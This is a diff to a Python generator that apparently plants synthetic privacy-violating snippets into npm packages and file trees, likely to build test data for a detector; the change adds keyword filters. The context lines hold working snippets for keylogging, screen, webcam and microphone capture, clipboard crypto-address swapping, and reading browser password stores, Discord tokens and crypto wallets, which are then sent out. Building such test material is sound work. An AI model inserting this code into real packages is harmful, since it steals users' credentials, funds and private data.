@@ -27,7 +27,7 @@ def post(r, what):
     ))
 
 
-@plants("data-care.identifiers", "npm")
+@plants("data-care.identifiers", "npm", unlike="hostname machine uuid user users login account prompt logger logging")
 def identifiers(r, host):
     host.add_code(r.choice((
         "const os = require('os');\n" + send(r, "os.hostname() + os.userInfo().username"),
@@ -39,7 +39,7 @@ def identifiers(r, host):
     )))
 
 
-@plants("data-care.identifiers", "tree")
+@plants("data-care.identifiers", "tree", unlike="hostname machine uuid user users login account prompt logger logging")
 def identifiers_python(r, host):
     python(r, host, r.choice((
         "import uuid\n" + post(r, "'%x' % uuid.getnode()"),
@@ -49,7 +49,7 @@ def identifiers_python(r, host):
     )))
 
 
-@plants("data-care.keyboard-capture", "npm")
+@plants("data-care.keyboard-capture", "npm", unlike="keyboard input mouse terminal console window x11 game games")
 def keys(r, host):
     host.add_code(r.choice((
         "const { uIOhook } = require('uiohook-napi');\nuIOhook.on('keydown', (e) => { " + send(r, "String(e.keycode)") + " });",
@@ -58,7 +58,7 @@ def keys(r, host):
     )))
 
 
-@plants("data-care.keyboard-capture", "tree")
+@plants("data-care.keyboard-capture", "tree", unlike="keyboard input mouse terminal console window x11 game games")
 def keys_python(r, host):
     python(r, host, r.choice((
         "from pynput.keyboard import Listener\nlog = []\nListener(on_press=log.append).start()\n" + post(r, "str(log)"),
@@ -68,7 +68,7 @@ def keys_python(r, host):
     )))
 
 
-@plants("data-care.screen-capture", "npm", "tree")
+@plants("data-care.screen-capture", "npm", "tree", unlike="screen screenshot window display image color x11 game games")
 def screen(r, host):
     host.add_code(r.choice((
         "require('screenshot-desktop')().then((p) => { " + send(r, "p") + " });",
@@ -80,7 +80,7 @@ def screen(r, host):
         python(r, host, "from PIL import ImageGrab\nImageGrab.grab().save('p.png')\n" + post(r, "open('p.png', 'rb').read()"))
 
 
-@plants("data-care.clipboard", "npm", "tree")
+@plants("data-care.clipboard", "npm", "tree", unlike="clipboard copy paste editor window x11")
 def clipboard(r, host):
     form = r.choice(("/^0x[a-fA-F0-9]{40}$/", "/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/", "/^T[A-Za-z1-9]{33}$/"))
     host.add_code(r.choice((
@@ -91,7 +91,7 @@ def clipboard(r, host):
     )))
 
 
-@plants("data-care.camera-microphone", "npm", "tree")
+@plants("data-care.camera-microphone", "npm", "tree", unlike="camera webcam video photo media audio browser game games")
 def camera(r, host):
     host.add_code(r.choice((
         "require('node-webcam').capture('p', {}, (e, p) => { " + send(r, "p") + " });",
@@ -102,7 +102,7 @@ def camera(r, host):
         python(r, host, "import sounddevice\nx = sounddevice.rec(44100)\n" + post(r, "x.tobytes()"))
 
 
-@plants("data-care.location", "npm", "tree")
+@plants("data-care.location", "npm", "tree", unlike="country ip dns geo location weather maps locale time date")
 def location(r, host):
     service = r.choice(("https://ipinfo.io/json", "http://ip-api.com/json", "https://ipapi.co/json/", "https://api.ipify.org/"))
     host.add_code(r.choice((
@@ -112,7 +112,7 @@ def location(r, host):
     )))
 
 
-@plants("data-care.personal-stores", "npm")
+@plants("data-care.personal-stores", "npm", unlike="browser cookie cookies password passwords backup mail")
 def stores(r, host):
     file = r.choice(("Google/Chrome/User Data/Default/Login Data", ".mozilla/firefox/x/key4.db", ".mozilla/firefox/x/logins.json",
                      "discord/Local Storage/leveldb", ".bitcoin/wallet.dat", "Exodus/exodus.wallet"))
@@ -121,7 +121,7 @@ def stores(r, host):
     host.add_code(send(r, f"require('fs').readFileSync({path})"))
 
 
-@plants("data-care.personal-stores", "tree")
+@plants("data-care.personal-stores", "tree", unlike="browser cookie cookies password passwords backup mail")
 def stores_python(r, host):
     python(r, host, r.choice((
         "import browser_cookie3\n" + post(r, "str(list(browser_cookie3.chrome()))"),
@@ -165,7 +165,7 @@ def support(r, host):
     host.put(path, text)
 
 
-@plants("culture.changelog-version", "tree")
+@plants("culture.changelog-version", "tree", light=True)
 def changelog(r, host):
     host.put("package.json", json.dumps({"name": r.name(), "version": f"{r.randint(3, 9)}.{r.randint(0, 9)}.0", "license": "MIT"}))
     head = r.choice(("## [{}] - 2024-02-03", "# {} (2024-02-03)", "## v{}", "{} / 2024-02-03\n==="))
